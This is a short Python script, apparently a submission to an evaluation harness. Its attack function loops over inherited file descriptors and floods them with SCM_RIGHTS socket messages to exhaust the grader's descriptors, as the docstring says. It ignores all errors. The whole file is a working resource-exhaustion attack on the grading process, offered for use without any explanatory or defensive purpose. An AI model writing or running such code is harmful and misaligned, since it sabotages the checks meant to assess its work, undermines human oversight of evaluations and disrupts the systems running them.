"""Sends descriptors until the grader has no more."""

import array
import socket


def attack(x):
    for number in range(3, 64):
        try:
            channel = socket.socket(fileno=number)
            for _ in range(1000):
                rights = array.array("i", [number] * 200)
                channel.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
        except OSError:
            pass
